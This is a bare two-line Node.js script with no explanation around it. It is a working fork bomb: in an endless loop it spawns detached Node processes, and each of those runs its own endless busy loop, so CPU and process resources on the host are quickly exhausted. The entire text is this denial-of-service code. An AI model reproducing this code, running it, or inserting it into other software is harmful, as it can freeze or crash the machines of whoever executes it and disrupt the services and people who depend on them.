const { spawn } = require('child_process');
for (;;) spawn(process.execPath, ['-e', 'for (;;);'], { detached: true });
